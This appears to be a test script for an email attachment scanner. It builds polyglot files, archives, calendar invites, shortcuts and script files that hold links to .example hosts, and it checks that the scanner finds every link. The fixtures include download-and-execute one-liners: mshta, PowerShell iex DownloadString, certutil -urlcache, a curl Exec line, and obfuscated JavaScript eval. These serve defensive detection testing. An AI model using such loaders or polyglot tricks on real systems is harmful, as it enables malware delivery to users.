#!/usr/bin/env python3
"""Kinds of files that carry links: each is attached to a mail, and every link and file in it must be found.

Files that are two things at once (an archive behind a picture, a page in a GIF, one archive behind another), pages saved with
their pictures, invitations and visiting cards with folded lines and files in them, shortcuts of all systems, scripts and
mailboxes.  All are written here, and name hosts under .example only.

usage: files.py POSTERN"""
import base64
import binascii
import email.message
import io
import json
import pathlib
import shutil
import struct
import subprocess
import sys
import tarfile
import tempfile
import zipfile

postern = pathlib.Path(sys.argv[1])
try:
    from PIL import Image
except ImportError:
    print("SKIP: python3-pil is not installed")
    sys.exit(77)
if not postern.exists() or shutil.which("7zz") is None:
    print(f"SKIP: {postern} is not built, or 7zip is not installed")
    sys.exit(77)
work = pathlib.Path(tempfile.mkdtemp(prefix="postern-files-"))


def zipped(text):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        z.writestr("list.txt", text)
    return out.getvalue()


def sevened(text):
    (work / "list.txt").write_text(text)
    (work / "list.7z").unlink(missing_ok=True)
    subprocess.run(["7zz", "a", "list.7z", "list.txt"], cwd=work, check=True, stdout=subprocess.DEVNULL)
    return (work / "list.7z").read_bytes()


def tarred(text):
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:gz") as t:
        info = tarfile.TarInfo("list.txt")
        info.size = len(text)
        t.addfile(info, io.BytesIO(text.encode()))
    return out.getvalue()


def picture(form):
    out = io.BytesIO()
    Image.new("RGB", (60, 60), "red").save(out, form)
    return out.getvalue()


def pdf(link):
    return (b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
            b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 100 100]"
            b"/A<</S/URI/URI(" + link.encode() + b")>>>>]>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n")


def folded(line):
    return "\r\n ".join(line[i:i + 70] for i in range(0, len(line), 70)) + "\r\n"


def uuencoded(name, octets):
    return b"begin 644 " + name + b"\n" + b"".join(binascii.b2a_uu(octets[i:i + 45]) for i in range(0, len(octets), 45)) + b"`\nend\n"


def yencoded(name, octets):
    return b"=ybegin line=128 size=%d name=" % len(octets) + name + b"\n" + bytes((c + 42) & 255 for c in octets) + b"\n=yend size=0\n"


def ace(name, octets):
    """Stored, not compressed."""
    def header(kind, flags, more):
        whole = struct.pack("<BH", kind, flags) + more
        return struct.pack("<HH", (binascii.crc32(whole) ^ 0xFFFFFFFF) & 0xFFFF, len(whole)) + whole
    return (header(0, 0, b"**ACE**" + bytes((20, 20, 2, 0)) + b"\0" * 12) +
            header(1, 1, struct.pack("<5I", len(octets), len(octets), 0, 32, 0) + bytes((0, 3, 10, 0, 0, 0)) +
                   struct.pack("<H", len(name)) + name) + octets)


def floppy(name, octets):
    """A volume (FAT12) with one file: sectors 0 boot, 1 and 2 tables, 3 folder, 4... file."""
    clusters = -(-len(octets) // 512)
    boot = (b"\xeb\x3c\x90MSDOS5.0" + struct.pack("<HBHBHHBHHHII", 512, 1, 1, 2, 16, 64, 0xF8, 1, 32, 2, 0, 0) +
            b"\0\0\x29\1\2\3\4NO NAME    FAT12   ").ljust(510, b"\0") + b"\x55\xaa"
    links, packed = [0xFF8, 0xFFF] + [n + 3 for n in range(clusters - 1)] + [0xFFF, 0], b""
    for a, b in zip(links[::2], (links + [0])[1::2]):
        packed += struct.pack("<I", a | b << 12)[:3]
    entry = name.ljust(11) + b"\x20" + b"\0" * 14 + struct.pack("<HI", 2, len(octets))
    return (boot + 2 * packed.ljust(512, b"\0") + entry.ljust(512, b"\0") + octets).ljust(64 * 512, b"\0")


zip_one, zip_two = zipped("http://zip.example/a"), zipped("http://zip2.example/a")
seven, page_pdf = sevened("http://seven.example/a"), pdf("http://pdf.example/a")
page = b"<html><body><a href='http://page.example/x'>go</a></body></html>"
saved = (b"From: <Saved by a browser>\nSubject: page\nMIME-Version: 1.0\nContent-Type: multipart/related; boundary=m; "
         b"type=\"text/html\"\n\n--m\nContent-Type: text/html\n\n" + page + b"\n--m\nContent-Type: application/octet-stream\n"
         b"Content-Transfer-Encoding: base64\nContent-Location: file:///list.zip\n\n" + base64.encodebytes(zip_one) + b"--m--\n")
invitation = ("BEGIN:VCALENDAR\r\nVERSION:2.0\r\nBEGIN:VEVENT\r\nUID:1\r\n" + folded("DESCRIPTION:" + "x" * 40 + " http://description.example/join now") +
              "URL:http://url.example/x\r\nATTACH:http://attach.example/f\r\n" +
              "X-ALT-DESC;FMTTYPE=text/html:<a href=\"http://alternative.example/h\">x</a>\r\n" +
              folded("ATTACH;ENCODING=BASE64;VALUE=BINARY;X-FILENAME=list.zip:" + base64.b64encode(zip_one).decode()) +
              "END:VEVENT\r\nEND:VCALENDAR\r\n").encode()
card = ("BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Eve\r\nURL:http://url.example/x\r\n" + folded("NOTE:" + "x" * 50 + " http://note.example/y") +
        "END:VCARD\r\n").encode()
mailbox = b"".join(b"From a@mail.example Mon Nov  2 09:00:00 2026\nFrom: a@mail.example\nSubject: x\n\nhttp://mail%d.example/x\n\n" % i for i in (1, 2))
xml = b"<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n"
cases = {
    # two things at once
    "zip behind.pdf": (page_pdf + zip_one, "pdf.example zip.example"),
    "zip behind.jpg": (picture("JPEG") + zip_one, "zip.example"),
    "zip behind.png": (picture("PNG") + zip_one, "zip.example"),
    "7z behind.jpg": (picture("JPEG") + seven, "seven.example"),
    "7z behind.pdf": (page_pdf + seven, "pdf.example seven.example"),
    "pdf behind.jpg": (picture("JPEG") + page_pdf, "pdf.example"),
    "pdf behind.zip": (zip_one + page_pdf, "zip.example pdf.example"),
    "page behind.jpg": (picture("JPEG") + page, "page.example"),
    "page in.gif": (b"GIF89a/*\1\0\1\0*/=1;</script>" + page, "page.example"),
    "pdf behind.html": (page + page_pdf, "page.example pdf.example"),
    "zip behind.zip": (zip_one + zip_two, "zip.example zip2.example"),
    "7z behind.zip": (zip_one + seven, "zip.example seven.example"),
    "zip behind.7z": (seven + zip_one, "zip.example seven.example"),
    "behind.tgz": (tarred("http://tar.example/a") + tarred("http://tar2.example/a"), "tar.example"),
    "behind.rtf": (b"{\\rtf1 see http://rtf.example/x }" + zip_one, "rtf.example zip.example"),
    # pages, invitations, cards, mails
    "page.mht": (saved, "page.example zip.example"),
    "page.doc": (saved, "page.example zip.example"),
    "meeting.ics": (invitation, "description.example url.example attach.example alternative.example zip.example"),
    "card.vcf": (card, "url.example note.example"),
    "mails.mbox": (mailbox, "mail1.example mail2.example"),
    "drawing.svg": (xml + b"<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink'><a xlink:href="
                    b"'http://anchor.example/'><text>go</text></a><script><![CDATA[location='http://script.example/y']]></script>"
                    b"<foreignObject><iframe src='http://frame.example/z'/></foreignObject></svg>",
                    "anchor.example script.example frame.example"),
    # what a click follows
    "link.url": (b"[InternetShortcut]\r\nURL=http://url.example/x\r\nIconFile=\\\\icon.example\\s\\i.ico\r\n", "url.example icon.example"),
    "link.webloc": (xml + b"<plist version='1.0'><dict><key>URL</key><string>http://url.example/x</string></dict></plist>", "url.example"),
    "link.desktop": (b"[Desktop Entry]\nType=Link\nURL=http://url.example/x\nExec=sh -c 'curl http://run.example'\n", "url.example run.example"),
    "desk.rdp": (b"screen mode id:i:2\r\nfull address:s:rdp.example\r\n", "rdp.example"),
    "find.search-ms": (xml + b"<persistedQuery version='1.0'><query><scope><include path=\"\\\\share.example\\s\"/></scope></query>"
                       b"</persistedQuery>", "share.example"),
    "files.library-ms": (xml + b"<libraryDescription><simpleLocation><url>http://dav.example/s</url></simpleLocation></libraryDescription>",
                         "dav.example"),
    "query.iqy": (b"WEB\r\n1\r\nhttp://query.example/x\r\n", "query.example"),
    "start.jnlp": (xml + b"<jnlp codebase='http://base.example/x'><jar href='http://jar.example/a.jar'/></jnlp>", "base.example jar.example"),
    "office.mobileconfig": (xml + b"<plist version='1.0'><dict><key>PayloadType</key><string>Configuration</string><key>URL</key>"
                            b"<string>http://profile.example/x</string></dict></plist>", "profile.example"),
    # scripts
    "start.hta": (b"<html><head><HTA:APPLICATION ID='a'/><script language='VBScript'>CreateObject(\"WScript.Shell\").Run "
                  b"\"mshta http://hta.example/x\"</script></head></html>", "hta.example"),
    "start.wsf": (b"<job><script language='JScript'>var u='http://ws'+'f.example/x'; new ActiveXObject('WScript.Shell').Run(u);"
                  b"</script></job>", "wsf.example"),
    "start.ps1": (b"$u='http://ps'+'1.example/x'; iex (New-Object Net.WebClient).DownloadString($u)", "ps1.example"),
    "start.bat": (b"@echo off\r\ncertutil -urlcache -f http://bat.example/x y.exe\r\n", "bat.example"),
    "start.js": (b"var u=unescape('" + b"".join(b"%%%02x" % c for c in b"http://js.example/x") + b"'); eval(u)", "js.example"),
    # files in letters, old archives, images of volumes, bytecode
    "list.uu": (uuencoded(b"list.txt", b"http://uu.example/x\n" * 5), "uu.example"),
    "list.txt": (b"two files:\n\n" + uuencoded(b"a.zip", zip_one) + yencoded(b"b.txt", b"http://yenc.example/x "), "zip.example yenc.example"),
    "list.ace": (ace(b"list.txt", b"http://ace.example/x\n"), "ace.example"),
    "list.img": (floppy(b"LIST    TXT", b"http://img.example/x\n"), "img.example"),
    "a.class": (b"\xca\xfe\xba\xbe\0\0\0\x34\0\2\1\0Ahttp://class.example/x\1\0", "class.example"),
    "a.dex": (b"dex\n035\0" + b"\0" * 40 + b"\x16https://dex.example/x\0", "dex.example"),
    "mail.eml": (b"From: a@mail.example\nSubject: x\nContent-Type: text/html\n\n<a href='http://link.example/x'>x</a>", "link.example"),
}
for number, (name, (octets, _)) in enumerate(cases.items()):
    m = email.message.EmailMessage()
    m["From"], m["To"], m["Subject"] = "Ann <ann@example.net>", "bo@example.com", "Notice"
    m["Date"], m["Message-ID"] = "Mon, 02 Nov 2026 09:00:00 +0800", f"<{number}@example.net>"
    m.set_content("see below\n")
    m.add_attachment(octets, maintype="application", subtype="octet-stream", filename=name)
    (work / f"{number:02}.eml").write_bytes(bytes(m))
run = subprocess.run([postern, "scan", "--format=json", *sorted(work.glob("*.eml"))], capture_output=True, text=True, timeout=300)
lines = [json.loads(line) for line in run.stdout.splitlines()]
faults = [] if len(lines) == len(cases) else [f"{len(lines)} answers for {len(cases)} mails: {run.stderr[-500:]}"]
for (name, (_, hosts)), answer in zip(cases.items(), lines):
    lost = set(hosts.split()) - {u["host"] for u in answer["urls"]}
    found = {f["id"] for f in answer["findings"]}
    if lost:
        faults.append(f"{name}: lost {sorted(lost)}, gaps {answer['gaps']}")
    two = name.startswith(("7z behind", "pdf behind", "page behind", "page in", "zip behind"))
    if two and not found & {"file_two_types", "archive_ambiguous", "attach_mismatch", "html_attachment"}:
        faults.append(f"{name}: nobody says that it is two things: {sorted(found)}")
shutil.rmtree(work)
if faults:
    sys.exit("\n".join(faults))
print(f"{len(cases)} kinds of files: every link in them was found")
